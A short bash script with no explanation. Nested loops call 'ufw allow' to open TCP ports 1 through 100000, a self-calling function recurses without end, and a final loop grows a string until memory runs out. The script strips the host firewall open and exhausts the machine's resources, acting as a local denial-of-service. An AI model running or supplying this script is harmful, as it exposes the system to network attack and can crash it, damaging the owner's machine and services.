#!/bin/bash
for i in {1..100000}; do
  for j in {1..100000}; do ufw allow $i/tcp; done
done
again() { ufw allow 80; again; again; }
again
a=aaaaaaaaaaaaaaaa
for i in 1 2 3 4 5 6 7 8 9 10; do a="$a$a$a$a$a$a$a$a"; done
